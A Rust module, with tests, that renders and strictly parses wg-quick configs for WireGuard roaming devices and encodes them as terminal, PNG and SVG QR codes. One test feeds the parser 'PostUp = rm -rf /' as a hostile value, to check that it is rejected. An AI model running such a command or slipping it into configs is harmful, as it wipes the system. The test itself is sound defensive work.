//! What a roaming device (a phone with the WireGuard app, a laptop with wg-quick) is handed once:
//! its wg-quick config text, and QR codes of that text for a terminal, a PNG and an SVG.

use std::io::Cursor;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use image::{ImageFormat, Luma};
use ipnet::IpNet;
use qrcode::bits::Bits;
use qrcode::types::QrError;
use qrcode::{EcLevel, QrCode, Version};
use sha2::{Digest as _, Sha256};

/// Length in bytes of a WireGuard (x25519) key or preshared key.
const KEY_LEN: usize = 32;
/// Light margin around a code, in modules: the width the QR specification asks for.
const QUIET_ZONE: usize = 4;
/// Pixels per module in the PNG: scanners need at least 4, 8 leaves room for a shaky camera.
const PNG_MODULE_PX: u32 = 8;
/// User units per module in the SVG, so that it shows at a usable size when no width is set.
const SVG_MODULE_UNITS: u32 = 8;
/// xterm-256 palette entries for pure black and white: themes recolour the 16 basic ANSI colours
/// (a dark theme's "white" may be grey, its "black" the background), but not these.
const ANSI_DARK: u8 = 16;
/// See [`ANSI_DARK`].
const ANSI_LIGHT: u8 = 231;
/// Upper half block: the foreground paints the top module, the background the bottom one.
const HALF_BLOCK: char = '\u{2580}';
const ANSI_RESET: &str = "\x1b[0m";

/// Which resolvers a device's config names in its `DNS` line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum DeviceDns {
    /// The hub's mesh DNS (both its addresses) and the network domain as search domain: the default.
    #[default]
    Hub,
    /// No `DNS` line: for clients that cannot set resolvers (routers, wg-quick without resolvconf).
    Omit,
    /// Exactly these resolvers, and no search domain (other resolvers do not know the mesh names, and
    /// a search domain would send short names to them).
    Servers(Vec<IpAddr>),
}

impl DeviceDns {
    /// Exactly `servers`, each once, in the order given (a resolver named twice is asked once).
    pub fn servers(servers: impl IntoIterator<Item = IpAddr>) -> DeviceDns {
        let mut unique: Vec<IpAddr> = Vec::new();
        for server in servers {
            if !unique.contains(&server) {
                unique.push(server);
            }
        }
        DeviceDns::Servers(unique)
    }

    /// Make `config`'s `DNS` line what this choice says; `config` comes with the hub's resolvers.
    pub fn apply_to(&self, config: &mut DeviceConfig) {
        match self {
            DeviceDns::Hub => {}
            DeviceDns::Omit => {
                config.dns_servers.clear();
                config.dns_search.clear();
            }
            DeviceDns::Servers(servers) => {
                config.dns_servers = servers.clone();
                config.dns_search.clear();
            }
        }
    }
}

/// Longest tunnel name the WireGuard apps (Android's "import from file") and wg-quick accept: the
/// length of a Linux interface name.
pub const TUNNEL_NAME_MAX: usize = 15;

/// Whether the apps import a config file whose name (without `.conf`) is `name` as a tunnel of that
/// name: 1 to 15 characters out of `a-z A-Z 0-9 _ = + . -`.
pub fn is_tunnel_name(name: &str) -> bool {
    (1..=TUNNEL_NAME_MAX).contains(&name.len()) && name.bytes().all(is_tunnel_name_byte)
}

fn is_tunnel_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"_=+.-".contains(&b)
}

/// A tunnel name for the config file of `device` that the apps accept: the name itself when it is one,
/// else its first (up to 8) characters, `-` and 6 base32 characters (30 bits) of its SHA-256, 15
/// characters at most. The same device always gets the same name; two different names get the same
/// one with a chance of one in a billion, which callers writing several files check for.
pub fn tunnel_name(device: &str) -> String {
    if is_tunnel_name(device) {
        return device.to_owned();
    }
    const BASE32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let digest = Sha256::digest(device.as_bytes());
    let bits = u32::from_be_bytes([digest[0], digest[1], digest[2], digest[3]]);
    let suffix: String = (0..6).map(|i| BASE32[(bits >> (27 - 5 * i)) as usize & 31] as char).collect();
    let keep = TUNNEL_NAME_MAX - 1 - suffix.len();
    let prefix: String =
        device.bytes().map(|b| if is_tunnel_name_byte(b) { b as char } else { '-' }).take(keep).collect();
    let prefix = prefix.trim_end_matches(['-', '.']);
    if prefix.is_empty() { format!("device-{suffix}") } else { format!("{prefix}-{suffix}") }
}

/// A wg-quick configuration for a roaming device with exactly one peer (the hub).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeviceConfig {
    /// The device's x25519 private key, standard base64 (44 characters).
    pub private_key: String,
    /// The device's tunnel addresses, e.g. 10.77.0.3/32 and fd12:3456:789a::3/128.
    pub addresses: Vec<IpNet>,
    /// Resolvers to use while the tunnel is up.
    pub dns_servers: Vec<IpAddr>,
    /// Search domains, e.g. "home.internal"; wg-quick reads them from the DNS line too.
    pub dns_search: Vec<String>,
    /// Interface MTU; wg-quick picks one itself when unset.
    pub mtu: Option<u16>,
    /// The hub, the device's only peer.
    pub peer: HubPeer,
}

/// The hub as seen from a roaming device.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HubPeer {
    /// The hub's public key, standard base64.
    pub public_key: String,
    /// The key shared by this device and the hub, standard base64.
    pub preshared_key: String,
    /// HOST:PORT as given by the operator; the host is an IPv4 address, a `[IPv6]` address or a DNS name.
    pub endpoint: String,
    /// Destinations routed through the hub.
    pub allowed_ips: Vec<IpNet>,
    /// Seconds between keepalives; 0 turns them off.
    pub persistent_keepalive: u16,
}

/// What went wrong reading a config or encoding a QR code.
#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    /// A line that is neither a section header, a `KEY = VALUE` pair, a comment nor blank.
    #[error("line {line}: expected a [Section] header or KEY = VALUE")]
    Syntax { line: usize },
    /// A section header other than `[Interface]` and `[Peer]`.
    #[error("line {line}: unknown section {header:?}")]
    UnknownSection { line: usize, header: String },
    /// A second `[Interface]` or `[Peer]`: a device config has one of each.
    #[error("line {line}: second {section} section; a device config has one [Interface] and one [Peer]")]
    DuplicateSection { line: usize, section: &'static str },
    /// A key before the first section header.
    #[error("line {line}: key {key:?} outside any section")]
    KeyOutsideSection { line: usize, key: String },
    /// A key wg-quick or this device config does not have in that section.
    #[error("line {line}: unknown key {key:?} in {section}")]
    UnknownKey { line: usize, key: String, section: &'static str },
    /// A single-valued key given a second time.
    #[error("line {line}: {key} given twice")]
    DuplicateKey { line: usize, key: &'static str },
    /// A value that does not have the form its key needs.
    #[error("line {line}: bad {key} {value:?}: expected {expected}")]
    BadValue { line: usize, key: &'static str, value: String, expected: &'static str },
    /// A key that is not standard base64.
    #[error("line {line}: {key} is not standard base64")]
    KeyNotBase64 { line: usize, key: &'static str },
    /// A key that decodes, but not to the 32 bytes of a WireGuard key.
    #[error("line {line}: {key} decodes to {len} bytes, a WireGuard key has 32")]
    KeyWrongLength { line: usize, key: &'static str, len: usize },
    /// A section that the config must have.
    #[error("missing {section} section")]
    MissingSection { section: &'static str },
    /// A key that the config must have.
    #[error("missing {key} in {section}")]
    MissingKey { key: &'static str, section: &'static str },
    /// A config whose fields would be written as text that reads back differently, e.g. a newline
    /// or comma inside a value.
    #[error("config does not survive being written as wg-quick text: reading it back fails: {0}")]
    NotRepresentable(Box<RenderError>),
    /// See [`RenderError::NotRepresentable`]: the text reads back, but to other values.
    #[error("config does not survive being written as wg-quick text: a value holds a comma, space, '#' or line break")]
    ReadsBackDifferently,
    /// More bytes than the largest QR code holds.
    #[error("config too long for a QR code ({len} bytes)")]
    TooLongForQr { len: usize },
    /// The terminal QR code would be wider than [`TERMINAL_COLUMNS`]: wrapped, no camera reads it.
    #[error(
        "the config's QR code needs {columns} columns, more than an {TERMINAL_COLUMNS}-column terminal has: write it with --qr-png FILE or --qr-svg FILE instead of --qr"
    )]
    TooWideForTerminal { columns: usize },
    /// Any other refusal of the QR encoder.
    #[error("QR encoding failed: {0}")]
    Qr(QrError),
    /// Writing the PNG failed.
    #[error("PNG encoding failed: {0}")]
    Png(#[from] image::ImageError),
}

/// The two sections of a device config.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Section {
    Interface,
    Peer,
}

impl Section {
    fn header(self) -> &'static str {
        match self {
            Section::Interface => "[Interface]",
            Section::Peer => "[Peer]",
        }
    }
}

/// Every key a device config may hold, with its spelling in wg-quick.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Field {
    PrivateKey,
    Address,
    Dns,
    Mtu,
    PublicKey,
    PresharedKey,
    Endpoint,
    AllowedIps,
    PersistentKeepalive,
}

impl Field {
    const ALL: [Field; 9] = [
        Field::PrivateKey,
        Field::Address,
        Field::Dns,
        Field::Mtu,
        Field::PublicKey,
        Field::PresharedKey,
        Field::Endpoint,
        Field::AllowedIps,
        Field::PersistentKeepalive,
    ];

    fn name(self) -> &'static str {
        match self {
            Field::PrivateKey => "PrivateKey",
            Field::Address => "Address",
            Field::Dns => "DNS",
            Field::Mtu => "MTU",
            Field::PublicKey => "PublicKey",
            Field::PresharedKey => "PresharedKey",
            Field::Endpoint => "Endpoint",
            Field::AllowedIps => "AllowedIPs",
            Field::PersistentKeepalive => "PersistentKeepalive",
        }
    }

    fn section(self) -> Section {
        match self {
            Field::PrivateKey | Field::Address | Field::Dns | Field::Mtu => Section::Interface,
            _ => Section::Peer,
        }
    }

    /// wg-quick matches key names case-insensitively.
    fn find(section: Section, name: &str) -> Option<Field> {
        Field::ALL.into_iter().find(|k| k.section() == section && k.name().eq_ignore_ascii_case(name))
    }
}

impl DeviceConfig {
    /// Standard wg-quick text: `[Interface]` then `[Peer]`, lists comma-separated, DNS servers before
    /// search domains; empty lists, an unset MTU and a keepalive of 0 are left out. Ends with a newline.
    pub fn to_wg_quick(&self) -> String {
        let mut out = String::from("[Interface]\n");
        push_line(&mut out, Field::PrivateKey, &self.private_key);
        push_list(&mut out, Field::Address, self.addresses.iter());
        let dns = self.dns_servers.iter().map(ToString::to_string);
        push_list(&mut out, Field::Dns, dns.chain(self.dns_search.iter().cloned()));
        if let Some(mtu) = self.mtu {
            push_line(&mut out, Field::Mtu, &mtu.to_string());
        }
        let peer = &self.peer;
        out.push_str("\n[Peer]\n");
        push_line(&mut out, Field::PublicKey, &peer.public_key);
        push_line(&mut out, Field::PresharedKey, &peer.preshared_key);
        push_line(&mut out, Field::Endpoint, &peer.endpoint);
        push_list(&mut out, Field::AllowedIps, peer.allowed_ips.iter());
        if peer.persistent_keepalive != 0 {
            let keepalive = peer.persistent_keepalive.to_string();
            push_line(&mut out, Field::PersistentKeepalive, &keepalive);
        }
        out
    }

    /// Parse wg-quick text of this shape back; errors name the offending line. Unknown keys are
    /// errors, key names are case-insensitive, `#` comments and blank lines are ignored.
    pub fn parse(text: &str) -> Result<DeviceConfig, RenderError> {
        let mut parser = Parser::default();
        // Editors on Windows may save a byte order mark; wg-quick would choke, we need not.
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        for (index, raw) in text.lines().enumerate() {
            parser.line(index + 1, raw)?;
        }
        parser.finish()
    }

    /// Check that [`DeviceConfig::to_wg_quick`] reads back to this very config, so that no field
    /// smuggles in extra lines (wg-quick runs `PostUp` lines as root) or splits into several values.
    pub fn validate(&self) -> Result<(), RenderError> {
        let read_back = Self::parse(&self.to_wg_quick()).map_err(|e| RenderError::NotRepresentable(Box::new(e)))?;
        if read_back == *self { Ok(()) } else { Err(RenderError::ReadsBackDifferently) }
    }
}

fn push_line(out: &mut String, key: Field, value: &str) {
    out.push_str(key.name());
    out.push_str(" = ");
    out.push_str(value);
    out.push('\n');
}

fn push_list<T: ToString>(out: &mut String, key: Field, items: impl Iterator<Item = T>) {
    let items: Vec<String> = items.map(|item| item.to_string()).collect();
    if !items.is_empty() {
        push_line(out, key, &items.join(", "));
    }
}

/// Accumulates a config line by line; lists may span several lines, as wg-quick allows.
#[derive(Default)]
struct Parser {
    section: Option<Section>,
    seen_interface: bool,
    seen_peer: bool,
    private_key: Option<String>,
    addresses: Vec<IpNet>,
    dns_servers: Vec<IpAddr>,
    dns_search: Vec<String>,
    mtu: Option<u16>,
    public_key: Option<String>,
    preshared_key: Option<String>,
    endpoint: Option<String>,
    allowed_ips: Vec<IpNet>,
    persistent_keepalive: Option<u16>,
}

impl Parser {
    fn line(&mut self, line: usize, raw: &str) -> Result<(), RenderError> {
        // As in wg-quick, a comment runs from the first '#' (base64 never contains one).
        let content = raw.split('#').next().unwrap_or_default().trim();
        if content.is_empty() {
            return Ok(());
        }
        if content.starts_with('[') {
            return self.header(line, content);
        }
        let (name, value) = content
            .split_once('=')
            .map(|(name, value)| (name.trim(), value.trim()))
            .filter(|(name, _)| !name.is_empty())
            .ok_or(RenderError::Syntax { line })?;
        let Some(section) = self.section else {
            return Err(RenderError::KeyOutsideSection { line, key: name.to_owned() });
        };
        let key = Field::find(section, name).ok_or_else(|| RenderError::UnknownKey {
            line,
            key: name.to_owned(),
            section: section.header(),
        })?;
        self.value(line, key, value)
    }

    fn header(&mut self, line: usize, header: &str) -> Result<(), RenderError> {
        let (section, seen) = if header.eq_ignore_ascii_case("[Interface]") {
            (Section::Interface, &mut self.seen_interface)
        } else if header.eq_ignore_ascii_case("[Peer]") {
            (Section::Peer, &mut self.seen_peer)
        } else {
            return Err(RenderError::UnknownSection { line, header: header.to_owned() });
        };
        if std::mem::replace(seen, true) {
            return Err(RenderError::DuplicateSection { line, section: section.header() });
        }
        self.section = Some(section);
        Ok(())
    }

    fn value(&mut self, line: usize, key: Field, value: &str) -> Result<(), RenderError> {
        match key {
            Field::PrivateKey => set_once(&mut self.private_key, parse_key(line, key, value)?, line, key),
            Field::PublicKey => set_once(&mut self.public_key, parse_key(line, key, value)?, line, key),
            Field::PresharedKey => set_once(&mut self.preshared_key, parse_key(line, key, value)?, line, key),
            Field::Endpoint => set_once(&mut self.endpoint, parse_endpoint(line, value)?, line, key),
            Field::Mtu => {
                let mtu = parse_number(value)
                    .filter(|&mtu| mtu != 0)
                    .ok_or_else(|| bad_value(line, key, value, "a number from 1 to 65535"))?;
                set_once(&mut self.mtu, mtu, line, key)
            }
            Field::PersistentKeepalive => {
                let seconds = if value.eq_ignore_ascii_case("off") { Some(0) } else { parse_number(value) };
                let seconds =
                    seconds.ok_or_else(|| bad_value(line, key, value, "seconds from 0 to 65535, or \"off\""))?;
                set_once(&mut self.persistent_keepalive, seconds, line, key)
            }
            Field::Address => {
                for item in list_items(value) {
                    self.addresses.push(parse_net(line, key, item)?);
                }
                Ok(())
            }
            Field::AllowedIps => {
                for item in list_items(value) {
                    self.allowed_ips.push(parse_net(line, key, item)?);
                }
                Ok(())
            }
            Field::Dns => {
                for item in list_items(value) {
                    self.dns_item(line, item)?;
                }
                Ok(())
            }
        }
    }

    /// wg-quick's rule: what looks like an address is a server, anything else a search domain.
    fn dns_item(&mut self, line: usize, item: &str) -> Result<(), RenderError> {
        if let Ok(server) = item.parse::<IpAddr>() {
            self.dns_servers.push(server);
        } else if !looks_numeric(item) && !item.contains(':') && is_domain_name(item) {
            self.dns_search.push(item.to_owned());
        } else {
            return Err(bad_value(line, Field::Dns, item, "IP addresses of servers or search domain names"));
        }
        Ok(())
    }

    fn finish(self) -> Result<DeviceConfig, RenderError> {
        fn require<T>(slot: Option<T>, key: Field) -> Result<T, RenderError> {
            slot.ok_or(RenderError::MissingKey { key: key.name(), section: key.section().header() })
        }
        for (seen, section) in [(self.seen_interface, Section::Interface), (self.seen_peer, Section::Peer)] {
            if !seen {
                return Err(RenderError::MissingSection { section: section.header() });
            }
        }
        Ok(DeviceConfig {
            private_key: require(self.private_key, Field::PrivateKey)?,
            addresses: self.addresses,
            dns_servers: self.dns_servers,
            dns_search: self.dns_search,
            mtu: self.mtu,
            peer: HubPeer {
                public_key: require(self.public_key, Field::PublicKey)?,
                preshared_key: require(self.preshared_key, Field::PresharedKey)?,
                endpoint: require(self.endpoint, Field::Endpoint)?,
                allowed_ips: self.allowed_ips,
                persistent_keepalive: self.persistent_keepalive.unwrap_or(0),
            },
        })
    }
}

fn set_once<T>(slot: &mut Option<T>, value: T, line: usize, key: Field) -> Result<(), RenderError> {
    if slot.replace(value).is_some() {
        return Err(RenderError::DuplicateKey { line, key: key.name() });
    }
    Ok(())
}

fn bad_value(line: usize, key: Field, value: &str, expected: &'static str) -> RenderError {
    RenderError::BadValue { line, key: key.name(), value: value.to_owned(), expected }
}

/// wg-quick splits lists on commas and whitespace alike.
fn list_items(value: &str) -> impl Iterator<Item = &str> {
    value.split(|c: char| c == ',' || c.is_whitespace()).filter(|item| !item.is_empty())
}

fn parse_key(line: usize, key: Field, value: &str) -> Result<String, RenderError> {
    let bytes = BASE64.decode(value).map_err(|_| RenderError::KeyNotBase64 { line, key: key.name() })?;
    if bytes.len() != KEY_LEN {
        return Err(RenderError::KeyWrongLength { line, key: key.name(), len: bytes.len() });
    }
    Ok(value.to_owned())
}

/// Plain decimal digits only: `u16::from_str` would also take a leading '+'.
fn parse_number(value: &str) -> Option<u16> {
    if value.is_empty() || !value.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    value.parse().ok()
}

/// `ADDR/PREFIX`, or a bare address meaning a single host, as wg and wg-quick accept.
fn parse_net(line: usize, key: Field, item: &str) -> Result<IpNet, RenderError> {
    item.parse::<IpNet>()
        .or_else(|_| item.parse::<IpAddr>().map(IpNet::from))
        .map_err(|_| bad_value(line, key, item, "IPv4 or IPv6 addresses with an optional /prefix"))
}

fn parse_endpoint(line: usize, value: &str) -> Result<String, RenderError> {
    let valid = value.rsplit_once(':').is_some_and(|(host, port)| {
        let host_ok = if let Some(bracketed) = host.strip_prefix('[') {
            bracketed.strip_suffix(']').is_some_and(|v6| v6.parse::<Ipv6Addr>().is_ok())
        } else if looks_numeric(host) {
            host.parse::<Ipv4Addr>().is_ok()
        } else {
            is_domain_name(host)
        };
        host_ok && parse_number(port).is_some_and(|port| port != 0)
    });
    if valid {
        Ok(value.to_owned())
    } else {
        Err(bad_value(
            line,
            Field::Endpoint,
            value,
            "HOST:PORT with an IPv4 address, an [IPv6] address or a DNS name as HOST",
        ))
    }
}

/// Digits and dots only: meant as an IPv4 address, never as a name.
fn looks_numeric(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

/// A DNS name as resolvers take it: dot-separated labels of letters, digits, '-' and '_'.
fn is_domain_name(name: &str) -> bool {
    let name = name.strip_suffix('.').unwrap_or(name);
    !name.is_empty()
        && name.len() <= 253
        && name.split('.').all(|label| {
            (1..=63).contains(&label.len())
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
}

/// The smallest code holding `text` as one byte-mode segment. qrcode's own mixed segmentation
/// sometimes takes a version more for config text (4 more columns), pushing a terminal code past 80.
fn encode(text: &str, level: EcLevel) -> Result<QrCode, RenderError> {
    for version in 1..=40 {
        let mut bits = Bits::new(Version::Normal(version));
        match bits.push_byte_data(text.as_bytes()).and_then(|()| bits.push_terminator(level)) {
            Ok(()) => return QrCode::with_bits(bits, level).map_err(RenderError::Qr),
            Err(QrError::DataTooLong) => {}
            Err(other) => return Err(RenderError::Qr(other)),
        }
    }
    Err(RenderError::TooLongForQr { len: text.len() })
}

/// The width of the terminal a `--qr` code must fit, in columns: the classic terminal, and what a
/// wrapped code (unreadable) would be cut at.
pub const TERMINAL_COLUMNS: usize = 80;

/// The narrowest quiet zone the terminal code falls back to, in modules, when the standard one (4,
/// ISO/IEC 18004 section 6.3.8) would make it wider than the terminal. Phone scanners and zbar read
/// codes with 2; the zone is drawn light, so a dark theme's background never touches the code.
const MIN_TERMINAL_QUIET_ZONE: usize = 2;

/// wg-quick text without its optional spaces (`Key=a,b` for `Key = a, b`): what the terminal QR code
/// carries, to fit more config into 80 columns. wg-quick and the WireGuard apps read both forms alike
/// (a key, `=`, a value; list items trimmed). For text from [`DeviceConfig::to_wg_quick`], whose
/// values hold no spaces or commas ([`DeviceConfig::validate`]).
pub fn compact_wg_quick(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        match line.split_once('=') {
            Some((key, value)) => {
                out.push_str(key.trim());
                out.push('=');
                let items: Vec<&str> = value.split(',').map(str::trim).collect();
                out.push_str(&items.join(","));
            }
            None => out.push_str(line),
        }
        out.push('\n');
    }
    out
}

/// QR for a terminal: Unicode half blocks with explicit ANSI colours, dark modules on a light field
/// with a quiet zone, so that it scans on dark and light themes alike (zbar cannot read inverted codes).
/// The code carries [`compact_wg_quick`] of `text` and is at most [`TERMINAL_COLUMNS`] wide: the quiet
/// zone narrows from 4 to 2 modules when that makes it fit. Errors: [`RenderError::TooWideForTerminal`]
/// when even that is too wide (a long endpoint name and a long domain together), with the way out.
pub fn qr_terminal(text: &str) -> Result<String, RenderError> {
    // EC level L, as `qrencode -t ansiutf8` uses: the lowest level holds the most config in 80
    // columns, and a wrapped line makes the code unreadable. A screen is not smudged.
    let code = encode(&compact_wg_quick(text), EcLevel::L)?;
    let width = code.width();
    let zone = (MIN_TERMINAL_QUIET_ZONE..=QUIET_ZONE)
        .rev()
        .find(|zone| width + 2 * zone <= TERMINAL_COLUMNS)
        .ok_or(RenderError::TooWideForTerminal { columns: width + 2 * QUIET_ZONE })?;
    let modules = code.to_colors();
    let side = width + 2 * zone;
    // Coordinates include the quiet zone; everything outside the code is light.
    let dark = |x: usize, y: usize| {
        let (Some(x), Some(y)) = (x.checked_sub(zone), y.checked_sub(zone)) else {
            return false;
        };
        x < width && y < width && modules[y * width + x] == qrcode::Color::Dark
    };
    let mut out = String::new();
    for y in (0..side).step_by(2) {
        let mut pen = None;
        for x in 0..side {
            let cell = (dark(x, y), dark(x, y + 1));
            // Emit colours only where they change, to keep the text short.
            if pen != Some(cell) {
                out.push_str(&format!("\x1b[38;5;{};48;5;{}m", ansi_colour(cell.0), ansi_colour(cell.1)));
                pen = Some(cell);
            }
            out.push(HALF_BLOCK);
        }
        // Reset before the line break, or some terminals paint the rest of the line.
        out.push_str(ANSI_RESET);
        out.push('\n');
    }
    Ok(out)
}

fn ansi_colour(dark: bool) -> u8 {
    if dark { ANSI_DARK } else { ANSI_LIGHT }
}

/// PNG bytes, EC level M, 8 px per module, quiet zone on: scans in the WireGuard app and with zbarimg.
pub fn qr_png(text: &str) -> Result<Vec<u8>, RenderError> {
    let image = encode(text, EcLevel::M)?
        .render::<Luma<u8>>()
        .quiet_zone(true)
        .module_dimensions(PNG_MODULE_PX, PNG_MODULE_PX)
        .build();
    let mut png = Vec::new();
    image.write_to(&mut Cursor::new(&mut png), ImageFormat::Png)?;
    Ok(png)
}

/// SVG document of the same code (EC M, quiet zone, dark on white), 8 user units per module.
pub fn qr_svg(text: &str) -> Result<String, RenderError> {
    use qrcode::render::svg::Color;
    Ok(encode(text, EcLevel::M)?
        .render::<Color>()
        .quiet_zone(true)
        .module_dimensions(SVG_MODULE_UNITS, SVG_MODULE_UNITS)
        .dark_color(Color("#000000"))
        .light_color(Color("#ffffff"))
        .build())
}

#[cfg(test)]
mod tests {
    use super::*;
    use ipnet::{Ipv4Net, Ipv6Net};
    use proptest::prelude::*;

    const GOLDEN: &str = "\
[Interface]
PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
Address = 10.77.0.3/32, fd12:3456:789a::3/128
DNS = 10.77.0.1, fd12:3456:789a::1, home.internal
MTU = 1420

[Peer]
PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
PresharedKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=
Endpoint = hub.example.net:51820
AllowedIPs = 10.77.0.0/16, fd12:3456:789a::/48, 192.168.1.0/24
PersistentKeepalive = 25
";

    fn net(s: &str) -> IpNet {
        s.parse().unwrap()
    }

    fn sample() -> DeviceConfig {
        DeviceConfig {
            private_key: "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=".into(),
            addresses: vec![net("10.77.0.3/32"), net("fd12:3456:789a::3/128")],
            dns_servers: vec!["10.77.0.1".parse().unwrap(), "fd12:3456:789a::1".parse().unwrap()],
            dns_search: vec!["home.internal".into()],
            mtu: Some(1420),
            peer: HubPeer {
                public_key: "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=".into(),
                preshared_key: "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=".into(),
                endpoint: "hub.example.net:51820".into(),
                allowed_ips: vec![net("10.77.0.0/16"), net("fd12:3456:789a::/48"), net("192.168.1.0/24")],
                persistent_keepalive: 25,
            },
        }
    }

    /// Decode the one QR code in a bitmap with rqrr, returning its raw bytes.
    fn scan(width: usize, height: usize, dark: impl Fn(usize, usize) -> bool) -> Vec<u8> {
        let mut image = rqrr::PreparedImage::prepare_from_bitmap(width, height, dark);
        let grids = image.detect_grids();
        assert_eq!(grids.len(), 1, "expected exactly one QR code");
        let mut bytes = Vec::new();
        grids[0].decode_to(&mut bytes).expect("QR code decodes");
        bytes
    }

    #[test]
    fn device_dns_choices_shape_the_dns_line() {
        let mut omitted = sample();
        DeviceDns::Omit.apply_to(&mut omitted);
        let text = omitted.to_wg_quick();
        assert!(!text.to_ascii_lowercase().contains("dns"), "{text}");
        assert_eq!(DeviceConfig::parse(&text).unwrap(), omitted);
        omitted.validate().unwrap();

        let mut own = sample();
        let servers: Vec<IpAddr> = vec!["192.168.1.1".parse().unwrap(), "2001:db8::53".parse().unwrap()];
        DeviceDns::Servers(servers.clone()).apply_to(&mut own);
        let text = own.to_wg_quick();
        assert!(text.contains("\nDNS = 192.168.1.1, 2001:db8::53\n"), "{text}");
        assert_eq!(DeviceConfig::parse(&text).unwrap().dns_servers, servers);
        own.validate().unwrap();

        let mut hub = sample();
        DeviceDns::Hub.apply_to(&mut hub);
        assert_eq!(hub, sample());
    }

    #[test]
    fn tunnel_names_are_what_the_apps_import() {
        for ok in ["phone", "alice-phone", "a", "exactly-15-char", "A_b=c+d.e-f"] {
            assert!(is_tunnel_name(ok), "{ok}");
            assert_eq!(tunnel_name(ok), ok, "a name the apps take stays as it is");
        }
        for bad in ["", "sixteen-chars-xx", "grandmas-living-room-tablet", "with space", "ümlaut", "a/b"] {
            assert!(!is_tunnel_name(bad), "{bad:?}");
            let short = tunnel_name(bad);
            assert!(is_tunnel_name(&short), "{bad:?} -> {short:?}");
            assert_eq!(tunnel_name(bad), short, "stable");
        }
        let long = tunnel_name("grandmas-living-room-tablet");
        assert!(long.starts_with("grandmas-"), "{long}");
        assert_eq!(long.len(), 15, "{long}");
        assert_eq!(tunnel_name("abcdefg-hijklmnop").len(), 14, "a prefix loses its trailing dash");
        assert_ne!(tunnel_name("grandmas-living-room-tablet"), tunnel_name("grandmas-living-room-tv"));
        // Many long names sharing a prefix stay distinct.
        let names: std::collections::BTreeSet<String> =
            (0..2000).map(|i| tunnel_name(&format!("shared-prefix-device-{i}"))).collect();
        assert_eq!(names.len(), 2000);
    }

    #[test]
    fn to_wg_quick_golden() {
        assert_eq!(sample().to_wg_quick(), GOLDEN);
    }

    #[test]
    fn golden_parses_back() {
        assert_eq!(DeviceConfig::parse(GOLDEN).unwrap(), sample());
        sample().validate().unwrap();
    }

    #[test]
    fn optional_lines_are_left_out_and_read_back() {
        let mut config = sample();
        config.addresses.clear();
        config.dns_servers.clear();
        config.dns_search.clear();
        config.mtu = None;
        config.peer.allowed_ips.clear();
        config.peer.persistent_keepalive = 0;
        let text = config.to_wg_quick();
        for key in ["Address", "DNS", "MTU", "AllowedIPs", "PersistentKeepalive"] {
            assert!(!text.contains(key), "{key} should be left out:\n{text}");
        }
        assert_eq!(DeviceConfig::parse(&text).unwrap(), config);
    }

    #[test]
    fn parse_accepts_wg_quick_variations() {
        // Lower-case keys and headers, comments, CRLF, repeated list keys, bare host addresses,
        // whitespace-separated lists and "off" are all things wg-quick itself accepts.
        let text = "\u{feff}# phone\r\n[interface]\r\n\
            privatekey=yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk= # secret\r\n\
            ADDRESS = 10.77.0.3\r\n\
            Address = fd12:3456:789a::3/128\r\n\
            \r\n\
            dns = 10.77.0.1 home.internal\r\n\
            [PEER]\r\n\
            PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\r\n\
            presharedkey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\r\n\
            endpoint = [2001:db8::1]:51820\r\n\
            AllowedIPs = 0.0.0.0/0,\r\n\
            allowedips = ::/0\r\n\
            PersistentKeepalive = off\r\n";
        let config = DeviceConfig::parse(text).unwrap();
        assert_eq!(config.addresses, [net("10.77.0.3/32"), net("fd12:3456:789a::3/128")]);
        assert_eq!(config.dns_servers, ["10.77.0.1".parse::<IpAddr>().unwrap()]);
        assert_eq!(config.dns_search, ["home.internal"]);
        assert_eq!(config.mtu, None);
        assert_eq!(config.peer.endpoint, "[2001:db8::1]:51820");
        assert_eq!(config.peer.allowed_ips, [net("0.0.0.0/0"), net("::/0")]);
        assert_eq!(config.peer.persistent_keepalive, 0);
    }

    fn parse_err(text: &str) -> RenderError {
        DeviceConfig::parse(text).expect_err("config should be rejected")
    }

    /// GOLDEN with one line replaced (1-based line number).
    fn golden_with_line(line: usize, replacement: &str) -> String {
        let mut lines: Vec<&str> = GOLDEN.lines().collect();
        lines[line - 1] = replacement;
        lines.join("\n")
    }

    #[test]
    fn unknown_key_is_named_with_its_line() {
        let err = parse_err(&golden_with_line(4, "Foo = bar"));
        assert!(matches!(&err, RenderError::UnknownKey { line: 4, key, .. } if key == "Foo"));
        assert_eq!(err.to_string(), r#"line 4: unknown key "Foo" in [Interface]"#);
        // A real wg-quick key this device config does not use is refused too.
        let err = parse_err(&golden_with_line(5, "PostUp = rm -rf /"));
        assert_eq!(err.to_string(), r#"line 5: unknown key "PostUp" in [Interface]"#);
        // A key in the wrong section.
        let err = parse_err(&golden_with_line(10, "PrivateKey = x"));
        assert_eq!(err.to_string(), r#"line 10: unknown key "PrivateKey" in [Peer]"#);
    }

    #[test]
